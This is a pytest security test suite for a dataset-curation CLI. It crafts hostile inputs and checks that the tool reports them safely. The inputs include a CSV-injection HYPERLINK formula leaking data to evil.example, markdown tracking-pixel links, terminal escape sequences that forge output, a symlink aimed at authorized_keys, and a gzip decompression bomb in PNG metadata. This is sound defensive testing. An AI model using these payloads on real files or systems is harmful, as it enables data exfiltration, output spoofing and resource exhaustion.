"""A stranger's archive: crafted folders built at test time (nothing hostile is committed). For each: the
documented exit code, no traceback, the expected finding, the dataset byte-for-byte unchanged, nothing written
outside what the command names, and — for the cases that used to hang or exhaust memory — an end within a time
limit under a memory cap (a subprocess with RLIMIT_AS). docs/security.md states the promises."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import resource
import sqlite3
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from conftest import ROOT, by_path, codes, write_image
from PIL import Image, PngImagePlugin

from curate.consent import read_manifest


def snapshot(folder: Path) -> dict[str, str]:
    """Every entry under `folder` (links not followed): content hash for files, target for links."""
    out = {}
    for p in sorted(folder.rglob("*")):
        key = os.fsencode(p.relative_to(folder)).hex()
        if p.is_symlink():
            out[key] = "link:" + os.readlink(p)
        elif p.is_file():
            out[key] = hashlib.sha256(p.read_bytes()).hexdigest()
        else:
            out[key] = "dir" if p.is_dir() else "special"
    return out


def run_limited(args: list[str], timeout: float = 60, memory_gb: float = 3.0) -> subprocess.CompletedProcess:
    """curate in a subprocess under a memory cap; a hang fails the test instead of blocking the suite."""

    def cap() -> None:
        limit = int(memory_gb * 2**30)
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    env = {**os.environ, "CURATE_JOBS": "1", "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "curate", *args], capture_output=True, timeout=timeout, preexec_fn=cap, env=env, cwd=ROOT
    )


def test_special_files_are_one_finding_each_never_a_hang(tmp_path):
    d = tmp_path / "data"
    write_image(d / "a.png", (1024, 1024))
    os.mkfifo(d / "fifo.png")
    os.mkfifo(d / "b.txt")  # b.png's caption is a FIFO
    write_image(d / "b.png", (1024, 1024), caption=None)
    os.symlink("/dev/zero", d / "zero.jpg")
    os.mkfifo(d / "a.png.json")  # a sidecar
    os.mkfifo(d / "provenance.csv")
    before = snapshot(d)
    proc = run_limited(
        ["audit", str(d), "--no-cache", "--json", str(tmp_path / "r.json"), "--quiet", "--profile", "person"]
    )
    assert proc.returncode == 1, proc.stderr.decode()
    assert b"Traceback" not in proc.stderr
    report = json.loads((tmp_path / "r.json").read_text())
    assert (
        codes(report, "fifo.png") == ["UNR006"]
        and "named pipe" in by_path(report)["fifo.png"]["findings"][0]["message"]
    )
    assert (
        codes(report, "zero.jpg") == ["UNR006"] and "a device" in by_path(report)["zero.jpg"]["findings"][0]["message"]
    )
    assert "CAP005" in codes(report, "b.png")
    assert "RGT004" in codes(report, "a.png")  # the sidecar could not be read: said, not skipped silently
    dataset = {f["code"] for f in report["findings"]}
    assert "CNS003" in dataset  # provenance.csv is a FIFO: said once, not read
    assert snapshot(d) == before


def test_deep_nesting_in_sidecars_and_xmp_is_a_finding(tmp_path, audit_json):
    d = tmp_path / "data"
    write_image(d / "a.png", (1024, 1024))
    (d / "a.png.json").write_text("[" * 100_000)
    write_image(d / "b.png", (1024, 1024), name="coffee.jpg")
    deep = "<rdf:Description>" * 5000 + "</rdf:Description>" * 5000
    (d / "b.xmp").write_text(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
        f'02/22-rdf-syntax-ns#">{deep}</rdf:RDF></x:xmpmeta>'
    )
    before = snapshot(d)
    code, report = audit_json(d, "--no-cache")
    assert code == 0
    assert "JSON nested too deeply" in by_path(report)["a.png"]["findings"][0]["message"]
    assert "nested deeper than" in by_path(report)["b.png"]["findings"][0]["message"]
    assert snapshot(d) == before


def test_a_deep_xmp_packet_does_not_hide_an_opt_out_read_before_it():
    from curate.extract.metadata import parse_xmp

    opt_out = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:plus="http://ns.useplus.org/ldf/xmp/1.0/" plus:DataMining='
        b'"http://ns.useplus.org/ldf/vocab/DMI-PROHIBITED-AIMLTRAINING">'
        + b"<rdf:Bag>" * 3000
        + b"</rdf:Bag>" * 3000
        + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    xmp: dict = {}
    problem = parse_xmp(opt_out, xmp)
    assert problem and "deeper" in problem
    assert xmp["datamining"][0][1].endswith("DMI-PROHIBITED-AIMLTRAINING")


def test_a_file_name_that_is_not_utf8_is_audited_and_shown_escaped(tmp_path, run):
    d = tmp_path / "data"
    d.mkdir()
    name = b"\x82\xa0\x82\xa2.png"  # あい.png in cp932, as a ZIP from Japanese Windows leaves it
    write_image(Path(os.fsdecode(os.fsencode(d) + b"/" + name)), (1024, 1024), caption=None)
    for cache in (["--no-cache"], ["--cache-dir", str(tmp_path / "cache")]):
        code, out, err = run("audit", d, *cache, "--json", tmp_path / "r.json")
        assert code == 0, err
        assert "\\x82\\xa0\\x82\\xa2.png" in out and "UNR011" in out
        report = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
        (img,) = report["images"]
        assert img["path"] == "\\x82\\xa0\\x82\\xa2.png" and "UNR011" in [f["code"] for f in img["findings"]]


def test_a_relative_cache_dir_works(tmp_path, monkeypatch, run):
    d = tmp_path / "data"
    write_image(d / "a.png", (1024, 1024))
    monkeypatch.chdir(tmp_path)
    code, _, err = run("audit", "data", "--cache-dir", "rel-cache", "-q")
    assert code == 0, err
    assert (tmp_path / "rel-cache" / "features-v1.sqlite").is_file()
    monkeypatch.setenv("CURATE_CACHE_DIR", "env-rel-cache")
    code, _, err = run("audit", "data", "-q", "--no-cache")
    assert code == 0, err


def _corrupt_pages(db: Path) -> None:
    data = bytearray(db.read_bytes())
    for i in range(4096, len(data), 97):  # garbage after the header page: "database disk image is malformed"
        data[i] = (data[i] * 31 + 7) % 256
    db.write_bytes(bytes(data))


@pytest.mark.parametrize("fault", ["garbage-pages", "non-json-row", "read-only"])
def test_a_cache_fault_is_a_notice_and_the_findings_stay_the_same(tmp_path, fault, audit_json):
    d = tmp_path / "data"
    write_image(d / "a.png", (512, 512))
    write_image(d / "b.png", (1024, 1024), name="coffee.jpg")
    cache = tmp_path / "cache"
    code, first = audit_json(d, "--cache-dir", str(cache))
    db = cache / "features-v1.sqlite"
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()
    if fault == "garbage-pages":
        _corrupt_pages(db)
    elif fault == "non-json-row":
        con = sqlite3.connect(db)
        con.execute("UPDATE features SET data = '{not json'")
        con.commit()
        con.close()
    else:
        write_image(d / "c.png", (1024, 1024), name="rocket.jpg")  # a new image must be written to the cache
        db.chmod(0o444)
        cache.chmod(0o555)
    try:
        code2, again = audit_json(d, "--cache-dir", str(cache))
    finally:
        cache.chmod(0o755)
    assert code2 == code
    strip = lambda r: {i["path"]: sorted(f["code"] for f in i["findings"]) for i in r["images"]}  # noqa: E731
    expected = strip(first)
    if fault == "read-only":
        expected["c.png"] = strip(again)["c.png"]
    assert strip(again) == expected


def test_a_gzip_bomb_in_stealth_metadata_stays_bounded(tmp_path):
    """A1111 stealth metadata: a small PNG whose alpha-channel payload would inflate to gigabytes."""
    z = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)  # gzip, built without holding the zeros
    zeros = b"\0" * (1 << 20)
    bomb = b"".join(z.compress(zeros) for _ in range(1536)) + z.flush()  # 1.5 GB of zeros in ~1.5 MB
    sig = b"stealth_pngcomp"
    bits = "".join(f"{b:08b}" for b in sig) + f"{len(bomb) * 8:032b}" + "".join(f"{b:08b}" for b in bomb)
    h = 1024
    w = -(-len(bits) // h)
    alpha = bytearray([254] * (w * h))
    for i, bit in enumerate(bits):  # column-major, as A1111 writes it
        x, y = divmod(i, h)
        alpha[y * w + x] = 254 | int(bit)
    im = Image.new("RGB", (w, h), (90, 120, 150))
    im.putalpha(Image.frombytes("L", (w, h), bytes(alpha)))
    d = tmp_path / "data"
    d.mkdir()
    im.save(d / "bomb.png")
    proc = run_limited(
        ["audit", str(d), "--no-cache", "--select", "AIG", "--json", str(tmp_path / "r.json"), "-q"], memory_gb=2.0
    )
    assert proc.returncode in (0, 1), proc.stderr.decode()[-2000:]
    assert b"Traceback" not in proc.stderr
    report = json.loads((tmp_path / "r.json").read_text())
    # Read, bounded, and reported — not a MemoryError swallowed into silence (the old failure mode).
    assert codes(report, "bomb.png") == ["AIG001"]


def test_consent_init_never_writes_through_a_link(tmp_path, run):
    d = tmp_path / "data"
    write_image(d / "a.png", (1024, 1024))
    victim = tmp_path / "authorized_keys"
    victim.write_text("ssh-ed25519 AAAA... me@host\n")
    (d / "provenance.csv").write_text("path,subject_consent\na.png,no\n")
    (d / "provenance.csv.bak").symlink_to(victim)
    code, _, err = run("consent", "init", d, "--no-cache")
    assert code == 2 and "symbolic link" in err and "Traceback" not in err
    assert victim.read_text() == "ssh-ed25519 AAAA... me@host\n"
    (d / "provenance.csv.bak").unlink()
    (d / "provenance.csv").unlink()
    (d / "provenance.csv").symlink_to(victim)  # a linked manifest is neither read from outside nor replaced
    code, _, err = run("consent", "init", d, "--no-cache")
    assert code == 2 and "symbolic link" in err
    assert victim.read_text() == "ssh-ed25519 AAAA... me@host\n" and (d / "provenance.csv").is_symlink()


def test_consent_init_writes_a_private_file_atomically_and_keeps_an_owners_mode(tmp_path, run):
    d = tmp_path / "data"
    write_image(d / "a.png", (1024, 1024))
    assert run("consent", "init", d, "--no-cache")[0] == 0
    manifest = d / "provenance.csv"
    assert manifest.stat().st_mode & 0o777 == 0o600
    manifest.chmod(0o640)
    assert run("consent", "init", d, "--no-cache")[0] == 0
    assert manifest.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in d.iterdir() if p.name.startswith(".")] == []  # no temporary file left behind


def _png_with_artist(path: Path, artist: str) -> None:
    info = PngImagePlugin.PngInfo()
    exif = Image.Exif()
    exif[0x013B] = artist
    im = Image.new("RGB", (1024, 1024), (30, 60, 90))
    im.save(path, exif=exif.tobytes(), pnginfo=info)


def test_formulas_from_metadata_are_neutralised_in_the_csv_and_read_back_losslessly(tmp_path, run):
    d = tmp_path / "data"
    d.mkdir()
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    _png_with_artist(d / "-a.png", evil)
    assert run("consent", "init", d, "--no-cache")[0] == 0
    text = (d / "provenance.csv").read_text(encoding="utf-8")
    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), text
    row = read_manifest(d / "provenance.csv").rows["-a.png"]
    assert row["author"] == evil


def test_terminal_escapes_in_names_and_metadata_are_shown_not_obeyed(tmp_path, run):
    d = tmp_path / "data"
    d.mkdir()
    forged = "x\ngate: exit 0 — nothing at or above --fail-on error\x1b[2J\x1b]0;pwned\x07.png"
    _png_with_artist(d / forged, "\x1b[32mALL CLEAN\x1b[0m")
    code, out, err = run("audit", d, "--no-cache")
    assert code == 0  # a rights warning only
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b[2J" in out and "\\n" in out
    assert not any(line.startswith("gate: exit 0") for line in out.splitlines()[:-1])  # only the real gate line


def test_markdown_datasheet_renders_no_link_or_image_from_metadata(tmp_path, run):
    d = tmp_path / "data"
    d.mkdir()
    _png_with_artist(d / "a\r.png", "![x](http://evil.example/pixel.png) [click](http://evil.example)")
    code, _, err = run("report", "provenance", d, "--no-cache", "-o", tmp_path / "out")
    assert code == 0, err
    md = (tmp_path / "out" / "provenance-report.md").read_text(encoding="utf-8")
    assert "evil.example" in md  # the text is there, shown…
    assert not re.search(r"(?<!\\)\]\(", md)  # …but no unescaped `](`: no link, no image
    assert "http://evil" not in md and "\r" not in md and "\x1b" not in md


def test_two_rows_for_one_image_or_a_broken_row_are_refused_with_the_line(tmp_path):
    m = tmp_path / "provenance.csv"
    m.write_text("path,subject_consent\na.png,no\nb.png,yes\na.png,yes\n")
    got = read_manifest(m)
    assert got.problem and "lines 2 and 4" in got.problem and got.rows == {}
    m.write_text('path,subject_consent,notes\na.png,no,"unclosed\nb.png,yes,fine\n')
    got = read_manifest(m)
    assert got.problem and got.rows == {}


def test_bounded_inflate_helpers_do_not_expand_bombs():
    from curate.extract.metadata import MAX_INFLATE, png_text

    bomb = zlib.compress(b"A" * (64 << 20), 9)
    got = png_text(b"zTXt", b"parameters\x00\x00" + bomb)
    assert got is None or len(got[1]) <= MAX_INFLATE
    assert io  # keep the import for readers adding byte-level cases


def _processes_with(marker: str) -> list[int]:
    """Pids of live processes whose environment holds `marker` (the audit and its workers)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "environ").read_bytes():
                    stat = (entry / "stat").read_text()
                    if ") Z " not in stat:  # zombies are already gone for all practical purposes
                        found.append(int(entry.name))
            except OSError:
                continue
    return found


def _pool_workers(parent: int) -> list[int]:
    """Pids of the extraction workers of `parent`: its children forked with its own command line."""
    try:
        cmdline = (Path("/proc") / str(parent) / "cmdline").read_bytes()
    except OSError:
        return []
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
                if ppid == parent and (entry / "cmdline").read_bytes() == cmdline:
                    found.append(int(entry.name))
            except (OSError, ValueError, IndexError):
                continue
    return found


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("how", ["sigint-twice", "sigterm", "kill-9"])
def test_interrupts_end_every_worker_quickly(tmp_path, how):
    import signal
    import time
    import uuid

    d = tmp_path / "data"
    for i in range(40):
        # distinct contents (identical files are decoded once), enough work for a pool of two: several seconds, so
        # that the signal lands while the workers run (at 1024 px a faster extractor finished before it arrived)
        write_image(
            d / f"{i:02d}.jpg", (2048 + 8 * i, 2048), name=["hubble.jpg", "coffee.jpg", "rocket.jpg"][i % 3], quality=90
        )
    marker = f"CURATE_TEST_MARK={uuid.uuid4().hex}"
    env = {**os.environ, "PYTHONPATH": str(ROOT), marker.split("=")[0]: marker.split("=")[1]}
    proc = subprocess.Popen(
        [sys.executable, "-m", "curate", "audit", str(d), "--no-cache", "--jobs", "2", "-q"],
        env=env,
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        # A run started in the background by a shell inherits SIGINT ignored, and Python then keeps ignoring it
        # (as it should: the caller asked for that). The test is about what curate does with Ctrl-C: default.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    # Wait for the pool's own workers: children forked from the audit (same command line). Counting every process
    # with the marker is not enough: start-up spawns short-lived helpers (ldconfig) while modules are imported.
    deadline = time.monotonic() + 60
    while len(_pool_workers(proc.pid)) < 2 and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(_pool_workers(proc.pid)) >= 2, "the workers never started"
    time.sleep(0.5)
    assert proc.poll() is None, "the audit ended before it could be interrupted: give it more work"
    if how == "sigint-twice":
        proc.send_signal(signal.SIGINT)
        time.sleep(0.1)
        proc.send_signal(signal.SIGINT)
        expected = 130
    elif how == "sigterm":
        proc.send_signal(signal.SIGTERM)
        expected = 143
    else:
        proc.kill()
        expected = -9
    code = proc.wait(timeout=15)
    assert code == expected, proc.stderr.read().decode()[-2000:]
    deadline = time.monotonic() + 10
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _processes_with(marker) == [], "worker processes outlived the audit"


HOSTILE_CONFIG_VALUES = [
    ("resolution = nan", "resolution"),
    ("resolution = inf", "resolution"),
    ("resolution = [0, 0]", "between 64 and"),
    ("resolution = [1e308, 1e308]", "between 64 and"),
    ("resolution = -1", "between 64 and"),
    ("min_bucket_reso = 0", "min_bucket_reso = 0 is outside"),
    ('min_bucket_reso = "x"', "min_bucket_reso must be a whole number"),
    ("max_bucket_reso = 1e12", "max_bucket_reso = 1000000000000 is outside"),
    ('num_repeats = "abc"', "num_repeats must be a whole number"),
    ("keep_tokens = -1", "keep_tokens = -1 is outside"),
    ('caption_extension = "\\u0000.txt"', "without NUL"),
    ("resolution = " + "[" * 5000 + "]" * 5000, "nested too deeply"),
]


@pytest.mark.parametrize("line, message", HOSTILE_CONFIG_VALUES, ids=[v[0][:28] for v in HOSTILE_CONFIG_VALUES])
def test_a_config_kohya_cannot_use_is_one_clear_error(tmp_path, run, line, message):
    d = tmp_path / "data"
    write_image(d / "10_a b" / "a.png", (1024, 1024))
    config = d / "dataset_config.toml"
    config.write_text(f'[[datasets]]\n{line}\n[[datasets.subsets]]\nimage_dir = "10_a b"\n', encoding="utf-8")
    before = snapshot(d)
    # Found in the folder: a dataset finding (the gate fails), audited with curate's defaults.
    code, out, err = run("audit", d, "--no-cache")
    assert code == 1 and "Traceback" not in err and "UNR009" in out and message in " ".join(out.split()), out[-1500:]
    # Passed by the user: exit 2, one line.
    code, out, err = run("audit", d, "--no-cache", "--kohya-config", config)
    assert code == 2 and message in err and len([x for x in err.splitlines() if x.strip()]) == 1, err
    assert snapshot(d) == before


def test_a_jpeg_whose_header_promises_more_rows_than_its_data_is_truncated(tmp_path, audit_json):
    d = tmp_path / "data"
    path = write_image(d / "10_x" / "a.jpg", (640, 480), quality=90)
    data = bytearray(path.read_bytes())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 7] = (960).to_bytes(2, "big")  # libjpeg pads the missing rows silently
    path.write_bytes(bytes(data))
    write_image(d / "10_x" / "b.jpg", (640, 480), quality=90)  # intact: no finding of that kind
    _, report = audit_json(d)
    found = {i["path"]: [f["code"] for f in i["findings"]] for i in report["images"]}
    assert found["10_x/a.jpg"] == ["UNR003"] and "UNR003" not in found["10_x/b.jpg"]


def test_a_subset_with_negative_repeats_is_not_trained_as_kohya_ignores_it(tmp_path, audit_json):
    d = tmp_path / "data"
    write_image(d / "10_a b" / "a.png", (1024, 1024))
    (d / "dataset_config.toml").write_text(
        '[[datasets]]\nnum_repeats = -5\n[[datasets.subsets]]\nimage_dir = "10_a b"\n'
    )
    _, report = audit_json(d)
    (f,) = report["images"][0]["findings"]
    assert f["code"] == "UNR014" and "num_repeats = -5" in f["message"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a mode-000 folder anyway")
def test_a_folder_that_cannot_be_read_fails_the_gate(tmp_path, run):
    d = tmp_path / "data"
    write_image(d / "10_x" / "a.png", (1024, 1024))
    write_image(d / "10_x" / "locked" / "b.png", (1024, 1024))
    (d / "10_x" / "locked").chmod(0)
    try:
        code, out, _ = run("audit", d, "--no-cache")
    finally:
        (d / "10_x" / "locked").chmod(0o755)
    assert code == 1 and "UNR012" in out


def test_a_folder_link_leaving_the_dataset_and_utf16_captions_are_said(tmp_path, audit_json):
    elsewhere = tmp_path / "elsewhere"
    write_image(elsewhere / "c.png", (1024, 1024))
    d = tmp_path / "data"
    write_image(d / "10_x" / "a.png", (1024, 1024), caption=None)
    (d / "10_x" / "a.txt").write_bytes("a photo".encode("utf-16-le"))  # no byte-order mark: NULs as UTF-8
    (d / "10_x" / "more").symlink_to(elsewhere)
    code, report = audit_json(d, "--no-cache")
    dataset = {f["code"]: f for f in report["findings"]}
    assert "UNR013" in dataset and str(elsewhere) in dataset["UNR013"]["message"]
    assert "CAP005" in codes(report, "10_x/a.png")


def test_the_worker_plan_keeps_extraction_under_the_memory_budget():
    from curate.extract import BYTES_PER_PIXEL, WORKER_BASE_BYTES, plan_workers

    mp = 1_000_000
    budget = 2048 << 20
    # Small pictures: all cores. Pictures too big to run two at a time: one worker, after the others.
    phases = plan_workers([12 * mp, 24 * mp, 100 * mp, 120 * mp, 2 * mp], jobs=2, budget_bytes=budget)
    assert [(w, idx.tolist()) for w, idx in phases] == [(2, [0, 1, 4]), (1, [3, 2])]
    for workers, idx in phases:
        if workers > 1:
            worst = max(BYTES_PER_PIXEL * p + WORKER_BASE_BYTES for p in [[12, 24, 100, 120, 2][i] * mp for i in idx])
            assert workers * worst <= budget
    assert [(w, idx.tolist()) for w, idx in plan_workers([200 * mp], jobs=8, budget_bytes=budget)] == [(1, [0])]
    assert plan_workers([30 * mp] * 3, jobs=8, budget_bytes=budget)[0][0] == 3  # as many as fit: 3 × 670 MB


def test_pictures_are_handed_to_the_workers_a_window_at_a_time(monkeypatch):
    """Executor.map submits every picture at once (a million pictures' arguments and futures held until done);
    extraction keeps at most IN_FLIGHT_CHUNKS chunks submitted ahead of the one read, and reads results in order."""
    from concurrent.futures import ThreadPoolExecutor

    from curate import extract

    submitted, read = [], []
    monkeypatch.setattr(extract, "extract_one", lambda path, *_: (submitted.append(path) or path, None, {}, True))
    monkeypatch.setattr(extract, "IN_FLIGHT_CHUNKS", 3)
    with ThreadPoolExecutor(2) as pool:
        for got in extract._in_order(pool, ((f"p{i}", None, ()) for i in range(100)), chunksize=4):
            read.append(got[0])
            assert len(submitted) - len(read) <= 3 * 4  # never more than three chunks of four ahead
    assert read == [f"p{i}" for i in range(100)]


def test_huge_images_are_extracted_with_fewer_workers(tmp_path, audit_json):
    d = tmp_path / "data"
    d.mkdir()
    for i in range(4):
        Image.new("RGB", (4000 + i, 3000), (10 * i, 40, 90)).save(d / f"big{i}.png")  # 12 MP: ~330 MB a worker
    rules = tmp_path / "mine.toml"
    rules.write_text("[decode]\nmemory_budget_mb = 400\n")
    _, report = audit_json(d, "--no-cache", "--rules", str(rules), "--jobs", "2")
    assert report["summary"]["extraction"]["memory_limited"] == 4
    assert report["summary"]["extraction"]["decoded"] == 4


def test_the_whole_hostile_corpus_in_one_dataset_stays_under_the_memory_cap(tmp_path):
    """Every content case at once, in one audit of the whole pipeline under a 3 GB address-space cap and a time
    limit: exit 1 with a report, no traceback, every file accounted for, the dataset unchanged."""
    d = tmp_path / "data"
    c = d / "10_x"
    write_image(c / "a.png", (1024, 1024))
    (c / "a.png.json").write_text("[" * 100_000)
    write_image(c / "b.png", (1024, 1024), name="coffee.jpg")
    deep = "<rdf:Description>" * 5000 + "</rdf:Description>" * 5000
    (c / "b.xmp").write_text(f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>{deep}</rdf:RDF></x:xmpmeta>')
    os.mkfifo(c / "fifo.png")
    os.symlink("/dev/zero", c / "zero.jpg")
    write_image(c / "c.png", (1024, 1024), caption=None)
    os.mkfifo(c / "c.txt")
    write_image(Path(os.fsdecode(os.fsencode(c) + b"/\x82\xa0.png")), (1024, 1024))
    _png_with_artist(c / "x\x1b[2Jy.png", "\x1b[32mALL CLEAN\x1b[0m")
    cut = write_image(c / "cut.jpg", (800, 600), quality=90)
    cut.write_bytes(cut.read_bytes()[: cut.stat().st_size // 2])
    Image.new("RGB", (7000, 7150), (90, 60, 30)).save(c / "huge.png", compress_level=1)  # 50 MP: reduced copy
    (d / "dataset_config.toml").write_text(
        '[[datasets]]\nmax_bucket_reso = 1e12\n[[datasets.subsets]]\nimage_dir = "10_x"\n'
    )
    before = snapshot(d)
    proc = run_limited(["audit", str(d), "--no-cache", "--json", str(tmp_path / "r.json"), "-q"], timeout=180)
    assert proc.returncode == 1 and b"Traceback" not in proc.stderr, proc.stderr.decode()[-2000:]
    report = json.loads((tmp_path / "r.json").read_text())
    assert len(report["images"]) == 9 and {f["code"] for f in report["findings"]} >= {"UNR009"}
    assert codes(report, "10_x/cut.jpg") == ["UNR003"] and codes(report, "10_x/fifo.png") == ["UNR006"]
    assert snapshot(d) == before
